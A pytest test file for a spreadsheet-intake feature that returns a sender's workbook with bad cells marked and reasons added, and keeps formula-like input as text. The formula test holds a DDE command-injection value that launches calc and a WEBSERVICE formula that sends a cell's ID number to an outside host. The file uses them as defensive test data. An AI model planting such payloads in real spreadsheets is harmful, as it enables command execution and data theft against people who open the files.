"""The returned workbook: the sender's own, bad cells coloured, reasons in an added column, text that stays text."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font
from openpyxl.worksheet.worksheet import Worksheet

from gridadmin.domain.imports import ImportKind, Problem, Severity
from gridadmin.i18n import Message
from gridadmin.intake.cells import IntakeContext
from gridadmin.intake.reading import read_file
from gridadmin.intake.returns import returned_workbook
from tests.corpus.cases import HEADER, TODAY, id_number, person
from tests.corpus.writers import text, xls, xlsx

BAD = [*person(2)[:2], "371525198506300008", *person(2)[3:]]


def returned(path: Path) -> Worksheet:
    intake = read_file(path, ImportKind.WORKERS, IntakeContext(TODAY))
    problems = [problem for row in intake.rows for problem in row.problems]
    headers = {table.sheet: table.header_rows[1] for table, _ in intake.tables}
    sheet = load_workbook(io.BytesIO(returned_workbook(path, problems, headers))).worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


def test_bad_cells_are_coloured_and_the_rest_is_untouched(tmp_path: Path) -> None:
    def style(workbook: Workbook) -> None:
        workbook.worksheets[0]["B2"].font = Font(bold=True, size=15)
        workbook.worksheets[0].column_dimensions["B"].width = 33
        workbook.worksheets[0]["L1"].number_format = "0.00"

    path = tmp_path / "村.xlsx"
    xlsx([["花名册"], HEADER, person(1), BAD, person(3)], ["A1:J1"], style)(path)
    sheet = returned(path)
    assert sheet["K2"].value == "Reason for return"
    assert sheet["K4"].value.startswith("C4: The check digit of 371525198506300008 is wrong")
    assert sheet["C4"].fill.start_color.rgb == "FFFFC7CE"
    assert sheet["C3"].fill.fill_type is None
    assert [sheet["K3"].value, sheet["K5"].value] == [None, None]
    assert (sheet["B2"].font.sz, sheet.column_dimensions["B"].width) == (15, 33)
    assert [str(area) for area in sheet.merged_cells.ranges] == ["A1:J1"]
    assert [cell.value for cell in sheet[3]][:10] == person(1)


@pytest.mark.parametrize(
    ("name", "write"),
    [
        ("旧.xls", xls([HEADER, person(1), BAD])),
        ("表.csv", text([HEADER, person(1), BAD], "gbk")),
        ("提固新村[最终版].csv", text([HEADER, person(1), BAD], "gbk")),
        (f"{'很长的名字' * 8}.csv", text([HEADER, person(1), BAD], "gbk")),
    ],
)
def test_xls_and_csv_come_back_as_xlsx(tmp_path: Path, name: str, write: object) -> None:
    path = tmp_path / name
    assert callable(write)
    write(path)
    sheet = returned(path)
    assert "check digit" in sheet["K3"].value
    assert sheet["C3"].fill.start_color.rgb == "FFFFC7CE"
    assert (sheet["C2"].value, sheet["C2"].data_type, sheet["C2"].number_format) == (id_number(1), "s", "@")


def test_what_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    path = tmp_path / "公式.xlsx"

    def formulas(workbook: Workbook) -> None:
        workbook.worksheets[0]["F2"] = "=1+1"
        workbook.worksheets[0]["G2"] = '=WEBSERVICE("http://example.org/?"&C2)'

    bad = ["2", "=cmd|' /C calc'!A0", "371525198506300008", "@SUM(1)", "+1"]
    xlsx([HEADER, bad], more=formulas)(path)
    sheet = returned(path)
    for place in ("B2", "D2", "E2", "G2"):
        assert (sheet[place].data_type, sheet[place].number_format, sheet[place].quotePrefix) == ("s", "@", True)
    assert sheet["B2"].value == "=cmd|' /C calc'!A0"
    assert (sheet["F2"].value, sheet["F2"].data_type) == ("=1+1", "f")


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=40)
@given(st.text(st.characters(exclude_categories=["Cs", "Cc"]), min_size=1, max_size=20))
def test_any_text_survives_as_text(tmp_path: Path, value: str) -> None:
    path = tmp_path / "任意.csv"
    text([["姓名", "联系电话"], [value, "x"]], "utf-8")(path)
    reason = Message("{value}", {"value": value})
    problem = Problem(path.stem, 2, "A", value, reason, Severity.ERROR)
    sheet = load_workbook(io.BytesIO(returned_workbook(path, [problem], {path.stem: 1}))).worksheets[0]
    if value.strip():
        assert str(sheet.cell(2, 1).value or "").strip() == value.strip()
        assert sheet.cell(2, 1).data_type == "s"
    assert sheet.cell(2, 3).value == f"A2: {value}"
    assert sheet.cell(2, 3).data_type == "s"


def test_the_returned_workbook_can_be_sent_in_again(tmp_path: Path) -> None:
    path = tmp_path / "村.xlsx"
    xlsx([HEADER, person(1), BAD])(path)
    (tmp_path / "退回.xlsx").write_bytes(
        returned_workbook(path, [Problem("Sheet1", 3, "C", "", Message("wrong"))], {"Sheet1": 1})
    )
    again = read_file(tmp_path / "退回.xlsx", ImportKind.WORKERS, IntakeContext(date(2026, 12, 1)))
    assert [row.rejected for row in again.rows] == [False, True]
    assert [problem.column for problem in again.problems] == ["K"]
